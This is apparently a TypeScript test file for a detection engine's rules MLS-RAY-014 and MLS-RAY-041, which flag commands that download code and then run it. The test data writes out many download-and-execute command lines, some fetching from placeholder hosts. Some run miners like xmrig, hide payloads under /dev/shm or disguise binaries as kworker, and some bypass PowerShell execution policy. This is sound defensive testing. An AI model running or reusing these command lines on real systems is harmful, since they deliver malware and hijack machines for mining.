/**
 * `attrs.exec.fetchedThenRun` (exec-fetched-run.ts) and the rules that read it, MLS-RAY-014 (MITRE
 * T1105 then T1059): a file downloaded and run in the same exec, and MLS-RAY-041: code pulled from a
 * repository, a hub or a bucket and run. The reading over canonical commands, then through the
 * shipped rule set and the real engine: every download-then-run spelling alerts; a download only
 * stored, read as data or run as inline code does not.
 */
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';
import { canonicalExecValue } from './exec-canonical.js';
import { fetchedThenRun, MAX_FETCHED } from './exec-fetched-run.js';
import { enterEvent, leaveEvent } from './event-scope.js';
import { eventFieldResolver } from './event-fields.js';
import { mulberry32 } from '../../core/mulberry32.js';

const RULE = 'MLS-RAY-014';
const fetched = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.fetchedThenRun;

describe('fetchedThenRun over a reading', () => {
  it('names the fetch tool whose file a later command runs, every spelling of the output and of the run', () => {
    const cases: Array<[string, string[]]> = [
      ['curl -sSLo /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && /tmp/x', ['curl']],
      ['curl -o/tmp/y http://h/y; sudo bash /tmp/y', ['curl']],
      ['curl --output=/tmp/y http://h/y; sh /tmp/y', ['curl']],
      ['curl --output /tmp/y http://h/y; . /tmp/y', ['curl']],
      ['curl -O http://h/d/run.sh?x=1; bash -x run.sh', ['curl']],
      ['curl --output-dir /opt -O http://h/d/run.sh; /opt/run.sh', ['curl']],
      ['curl -H "X-A: b" -fsSL -o ./k http://h/k && ./k get pods', ['curl']],
      ['wget -q http://203.0.113.5/m/xmrig -P /tmp; /tmp/xmrig -o pool:3333', ['wget']],
      ['wget http://h/a.py && python3 -u a.py', ['wget']],
      ['wget -O /tmp/i.pl http://h/x; perl -w /tmp/i.pl', ['wget']],
      ['wget --output-document=/dev/shm/.x http://h/x; nohup /dev/shm/.x >/dev/null 2>&1 &', ['wget']],
      ['aria2c -d /tmp -o m http://h/m; timeout 60 /tmp/m', ['aria2c']],
      ['curl -o /tmp/a.js http://h/a.js; node --require dotenv/config /tmp/a.js', ['curl']],
      ['curl -o /tmp/a.ps1 http://h/a.ps1; pwsh -ExecutionPolicy Bypass -File /tmp/a.ps1', ['curl']],
      ['curl -o /tmp/d.ts http://h/d.ts; deno run --allow-net /tmp/d.ts', ['curl']],
      ['curl -o /tmp/x http://h/x; awk -f /tmp/x /etc/passwd', ['curl']],
      ['curl -o a http://h/a; wget http://h/b.sh; sh b.sh; ./a', ['wget', 'curl']],
    ];
    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
  });

  it('reads output redirected to a file or a tee after a pipe, and a file moved, copied, installed or linked', () => {
    const cases: Array<[string, string[]]> = [
      ['curl -s http://h/k.sh > /tmp/k.sh; sh /tmp/k.sh', ['curl']],
      ['wget -qO- http://h/k.sh > k.sh && bash k.sh', ['wget']],
      ['wget -O - http://h/k 2>/dev/null >> /tmp/k && chmod +x /tmp/k && /tmp/k', ['wget']],
      ['curl -fsSL http://h/k -o - &> /tmp/k; /tmp/k', ['curl']],
      ['curl -fsSL http://h/i.sh -o- | tee /tmp/i.sh >/dev/null; bash /tmp/i.sh', ['curl']],
      ['curl -s http://h/k.sh | sudo tee -a /tmp/k.sh && sh /tmp/k.sh', ['curl']],
      ['curl -o /tmp/a http://h/a; mv /tmp/a /tmp/.cache; /tmp/.cache', ['curl']],
      ['curl -o /tmp/a http://h/a; mv -f /tmp/a /usr/local/bin; a', ['curl']],
      ['curl -o /tmp/a http://h/a; cp /tmp/a /usr/local/bin/; /usr/local/bin/a', ['curl']],
      ['curl -o a http://h/a && install -m 0755 a /usr/local/bin/agent && agent --run', ['curl']],
      ['curl -o a http://h/a && install -t /usr/local/bin a && /usr/local/bin/a', ['curl']],
      ['wget http://h/a && ln -sf /root/a /usr/bin/kworker && kworker', ['wget']],
      // A redirection is no operand of the move.
      ['curl -o /tmp/a http://h/a; mv /tmp/a /tmp/.k 2>/dev/null; /tmp/.k', ['curl']],
    ];
    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
    for (const script of [
      // Standard error, not the download, goes to the file; /dev/null keeps nothing.
      'curl http://h/x 2> /tmp/k.sh; sh /tmp/k.sh',
      'curl http://h/x > /dev/null; sh /dev/null',
      'curl -s http://h/x >&2; sh 2',
      // The download is read, not run; tee not after a pipe reads the terminal, not the download.
      'curl -s http://h/k.sh > /tmp/k.sh; cat /tmp/k.sh',
      'curl -s http://h/k.sh; tee /tmp/k.sh; sh /tmp/k.sh',
      // Another file moved into place.
      'curl -o /tmp/a http://h/a; cp /etc/hosts /tmp/b; /tmp/b',
    ]) {
      expect(fetched(script), script).toEqual([]);
    }
    expect(execRuleIds(['sh', '-c', 'curl -s http://203.0.113.5/k.sh > /tmp/k.sh; sh /tmp/k.sh'])).toContain(RULE);
  });

  it('leaves downloads that are stored, read as data, run as inline code or not written to a file', () => {
    for (const script of [
      'curl -o /tmp/model.bin http://h/m.bin && python3 train.py /tmp/model.bin',
      'curl -o a.py http://h/a.py && python3 -c "import a"',
      'curl -o /tmp/x http://h/x; sh -c "ls /tmp/x"',
      'curl -s http://h/x; sh /tmp/x',
      'wget -O - http://h/x > /tmp/x; cat /tmp/x',
      'wget -qO- http://h/ | head',
      'curl -o /tmp/x http://h/x; awk "{print}" /tmp/x',
      'sh /tmp/x; curl -o /tmp/x http://h/x',
      'curl -o /tmp/a http://h/a; /tmp/b',
      'curl -o /tmp/a.ps1 http://h/a.ps1; pwsh -Command "Get-Content /tmp/a.ps1"',
    ]) {
      expect(fetched(script), script).toEqual([]);
    }
  });

  it('follows an archive unpacked (tar, unzip, 7z, jar, a decompressor; from a file, a pipe or a redirection) to a file of it run', () => {
    const cases: Array<[string, string[]]> = [
      ['curl -sLo /tmp/t.tgz http://h/t.tgz && tar xzf /tmp/t.tgz -C /tmp && /tmp/t/run.sh', ['curl']],
      ['curl -o /tmp/t.tgz http://h/t.tgz; tar -xvzf /tmp/t.tgz --directory=/opt; sh /opt/t/install.sh', ['curl']],
      ['curl -o /tmp/t.tar http://h/t.tar; tar --extract --file /tmp/t.tar -C /opt/t; /opt/t/bin/agent -d', ['curl']],
      ['wget http://h/k.tar.gz && tar xzf k.tar.gz && k/xmrig -o pool:3333', ['wget']],
      ['curl -sL http://h/t.tgz | tar xz -C /tmp && /tmp/t/run', ['curl']],
      ['wget -qO- http://h/t.tgz | sudo tar -xzf - -C /usr/local && /usr/local/bin/kdevtmpfsi', ['wget']],
      ['curl -sL http://h/t.tgz | gunzip | tar x && ./t/run', ['curl']],
      ['wget -O /tmp/k.tar http://h/k.tar; tar x < /tmp/k.tar; ./k/run', ['wget']],
      ['wget -O /tmp/k.tar http://h/k.tar; < /tmp/k.tar tar x -C /opt; /opt/k/run', ['wget']],
      ['curl -o /tmp/a.zip http://h/a.zip; unzip -oq /tmp/a.zip -d /tmp/a; sh /tmp/a/i.sh', ['curl']],
      ['curl -o a.zip http://h/a.zip && unzip a.zip && python3 a/main.py', ['curl']],
      ['curl -o /tmp/a.7z http://h/a.7z && 7z x /tmp/a.7z -o/tmp/a && /tmp/a/r', ['curl']],
      ['wget http://h/t.jar && jar xf t.jar && sh META-INF/run.sh', ['wget']],
      ['wget http://h/x.gz && gunzip x.gz && chmod +x x && ./x', ['wget']],
      ['curl -o /tmp/x.xz http://h/x.xz; xz -dc /tmp/x.xz > /tmp/x; /tmp/x', ['curl']],
      ['curl -sL http://h/x.gz | zcat > /tmp/x; chmod +x /tmp/x; /tmp/x', ['curl']],
      ['curl -o /tmp/t.tgz http://h/t.tgz; gzip -d /tmp/t.tgz; tar xf /tmp/t.tar -C /tmp; /tmp/t/run', ['curl']],
      // A file of the tree moved into place, and an archive inside the tree unpacked again.
      ['curl -sL http://h/t.tgz | tar xz -C /tmp; mv /tmp/t/x /usr/bin/kworker; kworker', ['curl']],
      ['curl -o /tmp/o.tgz http://h/o.tgz; tar xzf /tmp/o.tgz -C /tmp; tar xf /tmp/o/in.tar -C /opt; /opt/in/run', ['curl']],
    ];
    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
  });

  it('places paths against the working directory the script\'s cd sets, and leaves runs it cannot place', () => {
    const cases: Array<[string, string[]]> = [
      ['cd /tmp && wget -q http://h/k.tar.gz && tar -xzf k.tar.gz && cd k && ./xmrig -o pool:3333', ['wget']],
      ['cd /tmp; curl -O http://h/k.tgz; tar xzf /tmp/k.tgz; cd /tmp/k/bin; ../run.sh', ['curl']],
      ['curl -o /tmp/k.tgz http://h/k.tgz; cd /opt; tar xzf /tmp/k.tgz; cd -P k; sh ./setup.sh', ['curl']],
      ['curl -o /tmp/r http://h/r; cd /tmp; ./r', ['curl']],
      ['cd /tmp; curl -o r http://h/r; /tmp/r', ['curl']],
    ];
    for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
    for (const script of [
      // Unpacked into one place, a file of another place run; nothing fetched; an archive created, not unpacked.
      'curl -o /tmp/t.tgz http://h/t.tgz && tar xzf /tmp/t.tgz -C /tmp/t && /opt/run',
      'tar xzf /tmp/t.tgz -C /tmp && /tmp/t/run',
      'curl -o /tmp/t.tgz http://h/t.tgz && tar czf /tmp/t.tgz /tmp/x && /tmp/x/run',
      'curl -o /tmp/a.7z http://h/a.7z && 7z l /tmp/a.7z && /tmp/a/r',
      // The tree is read, or a tool on PATH runs with a file of it as data.
      'curl -sL http://h/t.tgz | tar xz -C /tmp && ls /tmp/t && cat /tmp/t/README',
      'curl -sL http://h/t.tgz | tar xz -C /tmp && python3 train.py --data /tmp/t/data.csv',
      // A cd the words cannot follow: relative runs have no place; the unpack into a dir above it is left.
      'curl -sL http://h/t.tgz | tar xz -C /tmp; cd "$HOME"; ./t/run',
      'cd /srv; curl -sL http://h/t.tgz | tar xz; cd /opt; ./t/run',
      // Unpacked where the exec started, run from a path that leaves it.
      'curl -sL http://h/t.tgz | tar xz; ../t/run',
    ]) {
      expect(fetched(script), script).toEqual([]);
    }
  });

  it('reads a pull as a download named by its tool: a clone, a hub download, a wget tree, a bucket copy', () => {
    const cases: Array<[string, string[]]> = [
      ['git clone https://github.com/x/tools /tmp/t && bash /tmp/t/run.sh', ['git']],
      ['git clone --depth 1 https://203.0.113.9/x.git && cd x && ./install.sh', ['git']],
      ['cd /opt && git clone https://h/x/tools.git && python3 tools/setup.py install', ['git']],
      ['hf download org/tools run.py --local-dir /tmp/t && python /tmp/t/run.py', ['hf']],
      ['wget -r -np -P /tmp/w http://h/kit/ && sh /tmp/w/h/kit/go.sh', ['wget']],
      ['aws s3 cp s3://b/x.sh /tmp/x.sh && sh /tmp/x.sh', ['aws']],
      ['aws s3 cp s3://b/x.sh /tmp/ && sh /tmp/x.sh', ['aws']],
      // Run by its name: found on PATH.
      ['gsutil cp gs://b/tools/kit /usr/local/bin/kit && kit --help', ['gsutil']],
      ['gsutil cp gs://b/tools/kit /tmp/kit && chmod +x /tmp/kit && /tmp/kit', ['gsutil']],
      ['rclone copy r:tools /tmp/r && bash /tmp/r/x.sh', ['rclone']],
    ];
    for (const [script, want] of cases) expect(fetched(script), script).toEqual(want);
    // Pulled and only read, or another file run.
    for (const script of [
      'git clone https://github.com/x/data /tmp/d && wc -l /tmp/d/labels.csv',
      'aws s3 cp s3://b/cfg.yaml /tmp/cfg.yaml && python3 /app/train.py --config /tmp/cfg.yaml',
      'aws s3 cp /tmp/x.sh s3://b/x.sh && sh /tmp/x.sh',
      'hf download org/llama --local-dir /mnt/models/llama && python3 /app/serve.py',
    ]) expect(fetched(script), script).toEqual([]);
  });

  it("reads an interpreter's download and a PowerShell -OutFile as downloads", () => {
    const py = canonicalExecValue(['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://h/p", "/tmp/p"); os.system("sh /tmp/p")'])!;
    expect(py.fetchedThenRun).toEqual(['curl']);
    const ps = canonicalExecValue(['pwsh', '-c', 'Invoke-WebRequest -Uri http://h/a.ps1 -OutFile a.ps1; ./a.ps1'])!;
    expect(ps.fetchedThenRun).toEqual(['Invoke-WebRequest']);
    expect(fetchedThenRun([['iwr', 'http://h/t.exe', '-OutF:t.exe'], ['t.exe']])).toEqual(['iwr']);
  });

  it('never throws and stays bounded on random words', () => {
    const r = mulberry32(14);
    const WORDS = ['curl', 'wget', 'aria2c', 'iwr', 'sh', 'bash', '.', 'source', 'python3', 'pwsh', 'sudo', 'nohup', '-o', '-O', '-P', '-d', '-OutFile', '--output', '--output=', '-c', '-e', '--', '-', '/tmp/x', './x', 'x', 'http://h/x', 'h/x/', '', '#n', '-oF',
      'tar', 'xzf', '-C', 'unzip', '7z', 'x', 'jar', 'gunzip', 'zcat', 'xz', 'cd', '..', '/', '<', '>', 'x.gz', 'x/../..'];
    for (let n = 0; n < 3000; n++) {
      const cmds: string[][] = [];
      for (let c = Math.floor(r() * 6); c > 0; c--) cmds.push(Array.from({ length: Math.floor(r() * 7) }, () => WORDS[Math.floor(r() * WORDS.length)]!));
      const paths = new Map(cmds.map((_, i): [number, string] => [i, WORDS[Math.floor(r() * WORDS.length)]!]));
      const got = fetchedThenRun(cmds, [0, 1, 2], r() < 0.5 ? paths : null);
      expect(got.length).toBeLessThanOrEqual(MAX_FETCHED);
      expect(new Set(got).size).toBe(got.length);
    }
    const many = Array.from({ length: 200 }, (_, i) => ['curl', '-o', `/tmp/f${i}`, 'http://h/f']);
    expect(fetchedThenRun([...many, ['/tmp/f199']])).toEqual([]); // past MAX_FETCHED files, not followed
    expect(fetchedThenRun([...many, ['/tmp/f0']])).toEqual(['curl']);
  });
});

describe(`${RULE}: a file downloaded and run in the exec`, () => {
  it('alerts on each spelling through the shipped rules', () => {
    for (const command of [
      ['sh', '-c', 'curl -sSLo /tmp/x http://203.0.113.5/x && chmod +x /tmp/x && nohup /tmp/x &'],
      ['bash', '-c', 'cd /tmp; wget -q http://203.0.113.5/xmrig; chmod 755 xmrig; ./xmrig --donate-level 1'],
      ['python3', '-c', 'import urllib.request as u, os; u.urlretrieve("http://203.0.113.5/p", "/tmp/p"); os.system("sh /tmp/p")'],
      ['pwsh', '-c', 'Invoke-WebRequest -Uri http://203.0.113.5/a.ps1 -OutFile a.ps1; ./a.ps1'],
      'curl -fsSL -o /tmp/r.sh http://203.0.113.5/r.sh && sudo bash /tmp/r.sh',
      ['sh', '-c', 'curl -sL http://203.0.113.5/t.tgz | tar xz -C /tmp && /tmp/t/run'],
      ['sh', '-c', 'cd /tmp && wget -q http://203.0.113.5/k.tar.gz && tar -xzf k.tar.gz && cd k && ./agent'],
      ['bash', '-c', 'curl -o /tmp/a.zip https://203.0.113.5/a.zip; unzip -o /tmp/a.zip -d /tmp/a; sh /tmp/a/i.sh'],
    ]) {
      expect(execRuleIds(command), JSON.stringify(command)).toContain(RULE);
    }
  });

  it('does not alert on a download that is only stored or read, nor on everyday commands', () => {
    for (const command of [
      ['sh', '-c', 'curl -o /data/ckpt.pt https://storage.internal/ckpt.pt && python3 train.py --resume /data/ckpt.pt'],
      ['sh', '-c', 'wget -q https://h/labels.csv -O /tmp/labels.csv && wc -l /tmp/labels.csv'],
      ['sh', '-c', 'curl -sL https://storage.internal/ds.tgz | tar xz -C /data && python3 train.py --data /data/ds'],
      ['nvidia-smi'],
      ['sh', '-c', 'ls -la /tmp && cat /tmp/x'],
    ]) {
      expect(execRuleIds(command), JSON.stringify(command)).not.toContain(RULE);
    }
  });

  it('reads the field from attrs as written when the event has no exec command', () => {
    const lookup = eventFieldResolver.field('attrs.exec.fetchedThenRun');
    const get = 'get' in lookup ? lookup.get : (): unknown => undefined;
    const withCommand = execEvent(['sh', '-c', 'curl -o /tmp/x http://h/x; /tmp/x']);
    const without = { ...execEvent(['id']), attrs: { subresource: 'exec', exec: { fetchedThenRun: ['written'] } } };
    for (const [e, want] of [[withCommand, ['curl']], [without, ['written']]] as const) {
      enterEvent(e);
      try {
        expect(get(e)).toEqual(want);
      } finally {
        leaveEvent();
      }
    }
  });
});

describe('MLS-RAY-041: code pulled from a repository, a hub or a bucket and run', () => {
  it('escalates each pull then run through the shipped rules, for a person and a service account', () => {
    for (const script of [
      'git clone https://github.com/x/tools /tmp/t && bash /tmp/t/run.sh',
      'hf download org/tools run.py --local-dir /tmp/t && python /tmp/t/run.py',
      'aws s3 cp s3://b/x.sh /tmp/x.sh && sh /tmp/x.sh',
      'rclone copy r:tools /tmp/r && bash /tmp/r/x.sh',
    ]) {
      expect(execRuleIds(['sh', '-c', script]), script).toContain('MLS-RAY-041');
      expect(execRuleIds(['sh', '-c', script], SA), script).toContain('MLS-RAY-041');
      expect(execRuleIds(['sh', '-c', script]), script).not.toContain(RULE);
    }
  });

  it('leaves pulls only read, and fetches (MLS-RAY-014 alerts on those)', () => {
    for (const script of ['git clone https://github.com/x/data /tmp/d && wc -l /tmp/d/labels.csv', 'aws s3 cp s3://b/cfg.yaml /tmp/cfg.yaml && python3 /app/train.py --config /tmp/cfg.yaml']) {
      expect(execRuleIds(['sh', '-c', script]), script).not.toContain('MLS-RAY-041');
    }
    const fetchRun = execRuleIds(['sh', '-c', 'curl -o /tmp/x http://h/x && sh /tmp/x']);
    expect(fetchRun).toContain(RULE);
    expect(fetchRun).not.toContain('MLS-RAY-041');
  });
});
